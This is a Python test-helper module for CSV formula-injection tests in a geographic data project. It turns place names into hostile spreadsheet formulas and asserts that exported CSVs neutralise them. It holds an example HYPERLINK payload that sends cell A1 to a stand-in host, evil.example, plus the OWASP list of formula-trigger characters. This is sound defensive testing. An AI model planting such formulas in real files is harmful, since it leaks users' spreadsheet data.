"""Helpers for the formula-safety tests: hostile names in, every CSV cell checked out.

The check is written independently of :mod:`geo.csvsafe` (its own idea of a
number), so a mistake in the writer's rule cannot hide itself.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import zipfile
import zlib
from pathlib import Path

import pandas as pd

#: Characters that make a spreadsheet cell a formula (OWASP), each tried as the first character of a name.
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PREFIX_IDS = ["equals", "plus", "minus", "at", "tab", "cr"]
#: Marks a hostile cell; with a prefix and a closing '","<name>")' it is a live HYPERLINK that leaks cell A1.
MARK = 'HYPERLINK("http://evil.example/?leak="&A1'
#: What a spreadsheet reads as a number (not a formula), as pandas and Python write them.
_NUMBER = re.compile(r"-?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
NAME_COLUMNS = ("name", "lad_name", "ward_name")
CODE_OF = {"name": "code", "lad_name": "lad_code", "ward_name": "ward_code"}


def hostile(prefix: str, name: str) -> str:
    """``name`` turned into a formula that starts with ``prefix`` and still contains the name."""
    return f'{prefix}{MARK},"{name}")'


def prefix_of(cell: str) -> str | None:
    """The hostile prefix a neutralised cell carried (``'=HYPERLINK...`` -> ``=``), else None."""
    if cell.startswith("'") and MARK in cell and cell[1:2] in PREFIXES:
        return cell[1]
    return None


def live_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: first character a formula character, and not a plain number."""
    return [c for row in rows for c in row if c[:1] in PREFIXES and not _NUMBER.fullmatch(c)]


def csv_rows(data: bytes | str, what: str) -> list[list[str]]:
    """Parse CSV strictly; every row must have the header's width (a bad quote would break the table)."""
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), strict=True))
    assert rows, f"{what}: empty CSV"
    widths = {len(r) for r in rows}
    assert widths == {len(rows[0])}, f"{what}: rows of widths {sorted(widths)} (quoting broken?)"
    return rows


def csv_files(name: str, data: bytes) -> dict[str, bytes]:
    """Every CSV in a download: the file itself, or the .csv members of a zip."""
    if data[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return {f"{name}/{m}": archive.read(m) for m in archive.namelist() if m.lower().endswith(".csv")}
    return {name: data} if name.lower().endswith(".csv") else {}


def check_csv(what: str, data: bytes | str) -> set[str]:
    """Assert no live formula in a CSV; return the hostile prefixes found neutralised in it."""
    rows = csv_rows(data, what)
    live = live_cells(rows)
    assert live == [], f"{what}: {len(live)} live formula cell(s), e.g. {live[0]!r}"
    return {p for row in rows for c in row if (p := prefix_of(c))}


def _cycled(code: str) -> str:
    digits = "".join(ch for ch in code if ch.isdigit())
    return PREFIXES[(int(digits) if digits else zlib.crc32(code.encode())) % len(PREFIXES)]


def renamed(frame: pd.DataFrame, prefix: str | None) -> pd.DataFrame:
    """``frame`` with every name column made hostile (see :func:`hostile_store_names`)."""
    cols = [c for c in NAME_COLUMNS if c in frame.columns]
    if not cols:
        return frame
    frame = frame.copy()
    for col in cols:
        values = frame[col].astype(str).tolist()
        codes = frame[CODE_OF[col]].astype(str).tolist() if CODE_OF[col] in frame.columns else values
        starts = [prefix or _cycled(code) for code in codes]
        frame[col] = pd.Series([hostile(p, v) for p, v in zip(starts, values)], index=frame.index, dtype=object)
    return frame


@contextlib.contextmanager
def hostile_store_names(monkeypatch, prefix: str | None = None):
    """Every name read from the installed store (areas, wards, districts, stations) becomes a hostile formula.

    With ``prefix`` every name starts with it; without, the prefix follows the area's GSS code number
    (``PREFIXES[n % 6]``), so any six consecutive codes carry all six and a district has the same name in
    every table. Codes are untouched, so areas resolve by code. The store's files are not changed: names
    are rewritten as the parquet files under the store are read (by ``Store`` or by any module directly).
    """
    import geopandas as gpd

    from geo.config import data_dir

    root = str(data_dir().resolve())

    def wrap(real):
        def read(path, *args, **kwargs):
            frame = real(path, *args, **kwargs)
            inside = isinstance(path, (str, Path)) and str(Path(path).resolve()).startswith(root)
            return renamed(frame, prefix) if inside else frame
        return read

    real_pd, real_gpd = pd.read_parquet, gpd.read_parquet
    monkeypatch.setattr(pd, "read_parquet", wrap(real_pd))
    monkeypatch.setattr(gpd, "read_parquet", wrap(real_gpd))
    try:
        yield
    finally:
        monkeypatch.setattr(pd, "read_parquet", real_pd)
        monkeypatch.setattr(gpd, "read_parquet", real_gpd)
